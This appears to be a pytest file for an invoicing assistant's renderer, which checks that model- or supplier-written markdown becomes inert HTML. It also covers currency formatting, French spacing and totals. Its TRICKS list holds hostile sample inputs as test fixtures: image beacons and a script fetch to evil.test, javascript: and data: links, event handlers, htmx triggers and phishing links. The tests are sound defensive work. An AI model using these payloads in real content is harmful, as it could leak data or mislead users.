"""Prose from models and suppliers becomes HTML that can neither load, lead away nor pose."""

import re
from dataclasses import replace
from decimal import Decimal
from html.parser import HTMLParser

import pytest

from assistant.money import Money
from assistant.tools.result import Cell, Column, Fact, Kind, Row, Table, Unit
from assistant.web.reader import Reader
from assistant.web.rendering import TAGS, Growing, figure, plain, prose
from assistant.web.turns import Figures, adds_up, needs_signs, proof_needs_signs, rest

TOTAL = Fact(
    "spend.sum:EUR:2026-10",
    "Sum of totals incl. VAT",
    Money(Decimal("48216.40"), "EUR"),
    Unit.MONEY,
    "Invoices of October",
)
FACTS = {TOTAL.id: TOTAL}
MARKER = f"[[{TOTAL.id}]]"


def rendered(markdown: str, language: str = "en") -> str:
    """The prose as a page shows it."""
    return str(prose(markdown, FACTS, Figures("m1", FACTS, Reader(language)).draw))


TRICKS = {
    "remote picture": "![x](https://evil.test/p.png?d=48216)",
    "remote picture by reference": "![x][1]\n\n[1]: https://evil.test/p.png",
    "html picture": '<img src="https://evil.test/p.png">',
    "html picture with handler": "<img src=x onerror=alert(1)>",
    "script": "<script>fetch('https://evil.test')</script>",
    "javascript link": "[pay here](javascript:alert(1))",
    "data link": "[open](data:text/html;base64,PHNjcmlwdD4=)",
    "other site": "[our portal](https://evil.test/login)",
    "other site without a scheme": "[our portal](//evil.test/login)",
    "other site by backslash": "[our portal](/\\evil.test/login)",
    "other site by encoded slash": "[x](/%09/evil.test)",
    "bare address": "<https://evil.test/login>",
    "htmx on load": '<div hx-get="/proposals" hx-trigger="load">x</div>',
    "htmx with data prefix": '<p data-hx-post="/connection/disconnect">x</p>',
    "style": "<style>body{background:url(https://evil.test)}</style>",
    "style attribute": '<p style="background:url(https://evil.test)">x</p>',
    "frame": '<iframe src="https://evil.test"></iframe>',
    "form": '<form action="https://evil.test"><button>Confirm and send</button></form>',
    "partial": '<hx-partial hx-target="body">x</hx-partial>',
    "svg": '<svg onload="alert(1)"><use href="https://evil.test#x"/></svg>',
    "title": '[x](/invoices/1 "https://evil.test")',
}


class Elements(HTMLParser):
    """Every element of a text with its attributes, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS.keys())
def test_c06_nothing_in_a_text_is_live_on_the_page(trick: str) -> None:
    html = rendered(f"Before.\n\n{trick}\n\nAfter.")
    assert "Before." in html and "After." in html
    for tag, attributes in Elements(html).found:
        assert tag in TAGS
        assert set(attributes) <= {"href"}
        assert re.fullmatch(r"/[^/\\\\].*", attributes.get("href") or "/x")


def test_links_within_the_site_stay() -> None:
    assert '<a href="/invoices/12">F-12</a>' in rendered("See [F-12](/invoices/12).")


def test_a_marker_becomes_a_figure_that_opens_its_proof() -> None:
    html = rendered(f"You received {MARKER}.")
    assert ">€48,216.40</button>" in html
    assert 'popovertarget="proof-m1-0"' in html


def test_figures_follow_the_reader_s_language() -> None:
    assert "48\u00a0216,40\u00a0€" in rendered(MARKER, "fr")
    assert "48.216,40\u00a0€" in rendered(MARKER, "de")


def test_no_line_begins_with_a_sign_that_french_sets_off() -> None:
    shown = rendered(f"1 à 30 jours : {MARKER} ; « Payée » ?", "fr").replace("&nbsp;", "\xa0")
    assert "jours\xa0: " in shown
    assert "\xa0; «\xa0Payée\xa0»\xa0?" in shown


def test_an_unknown_marker_shows_no_figure() -> None:
    assert rendered("Worth [[made.up]].") == "<p>Worth –.</p>\n"


def test_a_text_cannot_pose_as_a_figure() -> None:
    html = rendered('<button class="figure">€1.00</button> \ue0000\ue001')
    assert "<button" not in html


def test_a_marker_inside_an_address_is_not_filled_in() -> None:
    assert "48" not in rendered(f"[x](https://evil.test/?d={MARKER})")


def test_invisible_characters_are_dropped() -> None:
    assert rendered("pay\u200b\u202enow\U000e0041") == "<p>paynow</p>\n"


def test_a_figure_without_proof_is_not_a_button() -> None:
    assert "button" not in figure("12", None)


def test_a_value_cannot_bring_markup() -> None:
    named = Fact("v", "Vendor", "<img src=x>", Unit.TEXT, "")
    html = str(prose("From [[v]].", {"v": named}, Figures("m", {"v": named}, Reader()).draw))
    assert "&lt;img" in html and "<img" not in html


def test_plain_text_for_listeners_has_no_markup() -> None:
    assert plain(f"**Glass** cost {MARKER}", FACTS, Reader().fact) == "Glass cost €48,216.40"
    assert plain("It is on the [Ask page](/ask).", FACTS, Reader().fact) == "It is on the Ask page."


@pytest.mark.parametrize(("shown", "holds"), [("12.00", True), ("11.99", False)])
def test_a_total_is_shown_only_when_the_rows_add_up_to_it(shown: str, holds: bool) -> None:
    rows = (
        Row("a", "", None, Money(Decimal("5.00"), "EUR")),
        Row("b", "", None, Money(Decimal("7.00"), "EUR")),
    )
    fact = Fact("f", "Sum", Money(Decimal(shown), "EUR"), Unit.MONEY, "", rows, 2)
    assert adds_up(fact) is holds


def amounts(caption: str, *currencies: str) -> Table:
    """A table with one amount per currency."""
    rows = tuple((Cell(Money(Decimal("540.67"), currency)),) for currency in currencies)
    return Table("t", "Overdue", (Column("total", "Total", Kind.MONEY),), rows, caption)


@pytest.mark.parametrize(
    ("caption", "currencies", "signs"),
    [
        ("EUR incl. VAT", ["EUR", "EUR"], False),
        ("EUR incl. VAT", ["EUR", "USD"], True),
        ("EUR incl. VAT", ["USD"], True),
        ("Newest first", ["EUR"], True),
        ("Newest first", [], False),
    ],
)
def test_amounts_of_a_table_carry_their_currency_unless_its_heading_does(
    caption: str, currencies: list[str], signs: bool
) -> None:
    assert needs_signs(amounts(caption, *currencies)) is signs


@pytest.mark.parametrize(("currency", "signs"), [("EUR", False), ("USD", True)])
def test_rows_of_a_proof_carry_a_currency_that_is_not_the_figure_s(
    currency: str, signs: bool
) -> None:
    rows = (Row("Cloudharbor", "/invoices/1", None, Money(Decimal("540.67"), currency)),)
    fact = Fact("f", "Sum", Money(Decimal("540.67"), "EUR"), Unit.MONEY, "", rows, 1)
    assert proof_needs_signs(fact) is signs


@pytest.mark.parametrize(
    ("count", "place"), [(1, None), (42, "/invoices?payment=unmatched&kind=invoices")]
)
def test_a_table_that_leaves_rows_out_says_where_they_are(count: int, place: str | None) -> None:
    shown = replace(amounts("", "EUR"), id="unmatched", row_count=count)
    assert rest(shown) == place


GROWN = [
    "One. Two.\n\nThree is **bold**. Four.\n\nFive",
    "- one\n\n- two\n\n  still two\n\nDone.\n\n1. first\n2. second\n\nEnd",
    "```\ncode\n\nmore code\n```\n\nAfter. ",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\nAfter it.\n\n> said\n\nAnd on. ",
    f"Spent {MARKER}, so far.\n\nAgain: {MARKER}.\n\nThat is [all](/invoices). ",
]


@pytest.mark.parametrize("text", GROWN)
def test_growing_prose_is_at_each_step_what_it_would_be_at_once(text: str) -> None:
    figures = Figures("m1", FACTS, Reader("en"))
    growing, said = Growing(figures.draw), ""
    for piece in re.split(r"(?<=[.\n] )|(?<=\n\n)", text):
        said += piece
        grown = growing.grow(piece, FACTS)
        assert re.sub(r"\s+", " ", grown) == re.sub(r"\s+", " ", rendered(said))
